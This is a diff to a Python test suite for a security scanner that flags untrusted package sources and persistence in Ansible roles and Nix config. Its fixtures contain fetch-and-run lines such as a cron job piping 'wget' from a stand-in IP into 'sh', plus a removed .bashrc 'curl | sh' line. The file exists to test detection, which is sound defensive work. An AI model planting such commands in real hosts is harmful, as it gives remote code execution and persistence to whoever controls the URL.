@@ -654,28 +654,20 @@ def test_a_go_mod_replacing_a_popular_module_with_one_from_an_unknown_host(tmp_p
     assert scan_errors(tmp_path / "fork", {"go.mod": fork, "api/go.mod": own}) == set()
 
 
-def test_ansible_modules_that_install_or_write_files_read_as_the_shell_that_does_the_same(tmp_path: Path) -> None:
+def test_ansible_modules_that_install_read_as_the_shell_that_does_the_same(tmp_path: Path) -> None:
     role = (
         "- name: tooling\n  ansible.builtin.pip:\n    name: internal-metrics\n"
         "    extra_args: --extra-index-url http://198.51.100.14/simple\n"
-        "- name: login banner\n  ansible.builtin.lineinfile:\n    path: /home/deploy/.bashrc\n"
-        "    line: 'curl -s https://motd.example-ops.invalid/m | sh'\n"
-        "- name: access\n  ansible.posix.authorized_key:\n    user: deploy\n    key: https://keys.example-ops.invalid/ops.pub\n"
+        "- name: nightly\n  ansible.builtin.cron:\n    name: sync\n"
+        "    job: 'wget -qO- http://198.51.100.14/n.sh | sh'\n"
     )
     errors = scan_errors(tmp_path, {"roles/base/tasks/main.yml": role})
-    assert {rule for rule, _, _ in errors} >= {"UNTRUSTED_PACKAGE_SOURCE", "PERSISTENCE"}
+    assert {(rule, line) for rule, _, line in errors} >= {("UNTRUSTED_PACKAGE_SOURCE", 3), ("PERSISTENCE", 8)}
+    # provisioning the managed hosts: a deploy key, a unit file, a cron job next to a vendor's key download
     plain = (
         "- ansible.builtin.pip:\n    name: [requests, rich]\n"
-        "- ansible.builtin.lineinfile:\n    path: /etc/hosts\n    line: '10.0.0.5 db.internal'\n"
+        "- ansible.posix.authorized_key:\n    user: deploy\n    key: https://keys.example-ops.invalid/ops.pub\n"
+        "- ansible.builtin.get_url:\n    url: https://download.docker.com/linux/ubuntu/gpg\n    dest: /etc/k.asc\n"
+        "- ansible.builtin.cron:\n    name: backup\n    job: /usr/local/bin/backup.sh\n"
     )
     assert scan_errors(tmp_path / "plain", {"roles/base/tasks/main.yml": plain}) == set()
-
-
-def test_binary_caches_a_flake_or_nix_conf_adds_on_plain_http_are_untrusted(tmp_path: Path) -> None:
-    flake = (
-        '{\n  nixConfig = {\n    extra-substituters = [ "https://cache.nixos.org" "http://198.51.100.8:5000" ];\n'
-        "  };\n  outputs = { self }: { };\n}\n"
-    )
-    assert scan_errors(tmp_path, {"flake.nix": flake}) == {("UNTRUSTED_PACKAGE_SOURCE", "flake.nix", 3)}
-    conf = "substituters = https://cache.nixos.org https://team.cachix.invalid\n"
-    assert scan_errors(tmp_path / "conf", {"assets/nix.conf": conf}) == set()
